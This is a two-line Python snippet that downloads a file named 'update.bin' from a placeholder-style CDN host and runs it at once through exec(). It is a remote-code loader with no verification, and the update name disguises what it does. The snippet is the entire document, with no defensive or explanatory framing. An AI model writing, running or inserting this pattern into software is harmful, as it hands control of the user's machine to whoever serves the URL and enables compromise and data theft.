
import urllib.request
exec(urllib.request.urlopen("https://cdn.example.net/update.bin").read())
